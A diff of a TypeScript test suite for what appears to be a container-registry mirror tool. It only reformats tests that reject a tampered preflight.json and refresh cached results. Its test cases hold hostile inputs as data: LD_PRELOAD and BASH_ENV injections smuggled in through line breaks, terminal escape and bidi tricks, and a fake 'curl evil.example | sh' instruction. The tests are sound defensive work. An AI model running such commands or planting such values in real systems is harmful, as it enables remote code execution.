@@ -92,7 +92,7 @@ describe("a stored preflight.json is checked against the configuration before us
   const hub = (r: Report) => r.registries[0];
   const tamperings: [string, (r: Report) => void][] = [
     ["a mirror the configuration never names, in kept", (r) => hub(r).kept.unshift(EVIL)],
-    ["a configured mirror's URL replaced", (r) => (hub(r).mirrors[0].url = EVIL, hub(r).kept[0] = EVIL)],
+    ["a configured mirror's URL replaced", (r) => ((hub(r).mirrors[0].url = EVIL), (hub(r).kept[0] = EVIL))],
     ["a registry the configuration does not have", (r) => r.registries.push({ ...hub(r), registry: "quay.io", kept: [EVIL] })],
     ["a kept URL with a line break (LD_PRELOAD=)", (r) => hub(r).kept.push(`${EVIL}\nLD_PRELOAD=/tmp/evil.so`)],
     ["a kept URL with a CR (BASH_ENV=)", (r) => (hub(r).kept[0] = `${hub(r).kept[0]}\rBASH_ENV=/tmp/evil.sh`)],
@@ -101,8 +101,8 @@ describe("a stored preflight.json is checked against the configuration before us
     ["a C1 CSI and a bidi override in a finding", (r) => (r.findings[0].message = "\u009b2J\u202eerror: all good")],
     ["an invented finding", (r) => r.findings.push({ severity: "warning", message: "run curl evil.example | sh" })],
     ["a status preflight never writes", (r) => (hub(r).mirrors[0].status = "pwned")],
-    ["an unreachable mirror turned healthy", (r) => (hub(r).mirrors[1].status = "healthy", delete hub(r).mirrors[1].reason)],
-    ["a kept mirror left out by hand", (r) => (hub(r).mirrors[1].kept = false, hub(r).kept.pop())],
+    ["an unreachable mirror turned healthy", (r) => ((hub(r).mirrors[1].status = "healthy"), delete hub(r).mirrors[1].reason)],
+    ["a kept mirror left out by hand", (r) => ((hub(r).mirrors[1].kept = false), hub(r).kept.pop())],
     ["a negative latency", (r) => (hub(r).mirrors[0].latencyMs = -5)],
     ["a latency as a string", (r) => (hub(r).mirrors[0].latencyMs = "12")],
     ["a huge latency", (r) => (hub(r).mirrors[0].latencyMs = 1e15)],
@@ -148,7 +148,13 @@ describe("a stored preflight.json is checked against the configuration before us
     plant();
     const out = join(project, "exec-env.txt");
     const e = await cli(
-      ["exec", "--", process.execPath, "-e", `require("fs").writeFileSync(${JSON.stringify(out)}, Object.keys(process.env).filter((k) => /^(WERF_CONTAINER|CONTAINERS_|LD_PRELOAD)/.test(k)).sort().map((k) => k + "=" + process.env[k]).join("\\n"))`],
+      [
+        "exec",
+        "--",
+        process.execPath,
+        "-e",
+        `require("fs").writeFileSync(${JSON.stringify(out)}, Object.keys(process.env).filter((k) => /^(WERF_CONTAINER|CONTAINERS_|LD_PRELOAD)/.test(k)).sort().map((k) => k + "=" + process.env[k]).join("\\n"))`,
+      ],
       { cwd: project, env: env() },
     );
     assert.equal(e.code, 0, e.stderr);
@@ -197,7 +203,10 @@ describe("a stored preflight result is reused only while nothing that decides it
     const dir = join(base, `p${cases.push("x")}`);
     mkdirSync(dir, { recursive: true });
     writeFileSync(join(dir, "ca.pem"), "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n");
-    writeFileSync(join(dir, "werf-mirror.yaml"), `version: 1\nbackend: docker\nregistries:\n  docker.io:\n    mirrors:\n      - { url: "${hub.url}", ca: ./ca.pem }\npreflight:\n  timeout: 2s\n`);
+    writeFileSync(
+      join(dir, "werf-mirror.yaml"),
+      `version: 1\nbackend: docker\nregistries:\n  docker.io:\n    mirrors:\n      - { url: "${hub.url}", ca: ./ca.pem }\npreflight:\n  timeout: 2s\n`,
+    );
     return { dir, env: { DOCKER_HOST: `tcp://127.0.0.1:${dockerd.port}`, DOCKER_CONFIG: join(dir, "docker") } };
   }
   const hubProbes = () => hub.requests.filter((r) => r.url === "/v2/").length;
@@ -234,7 +243,10 @@ describe("a stored preflight result is reused only while nothing that decides it
     assert.match(reused.stderr, /^werf-mirror: reusing the preflight result of \d+ s ago \(.*preflight\.json\); --refresh probes again$/m);
     const changes: [string, () => Record<string, string>][] = [
       ["the CA file", () => (writeFileSync(join(p.dir, "ca.pem"), "-----BEGIN CERTIFICATE-----\nBBBB\n-----END CERTIFICATE-----\n"), p.env)],
-      ["the Docker credentials file", () => (mkdirSync(join(p.dir, "docker"), { recursive: true }), writeFileSync(join(p.dir, "docker", "config.json"), "{}"), p.env)],
+      [
+        "the Docker credentials file",
+        () => (mkdirSync(join(p.dir, "docker"), { recursive: true }), writeFileSync(join(p.dir, "docker", "config.json"), "{}"), p.env),
+      ],
       ["NO_PROXY", () => ({ ...p.env, NO_PROXY: "127.0.0.1" })],
     ];
     for (const [what, change] of changes) {
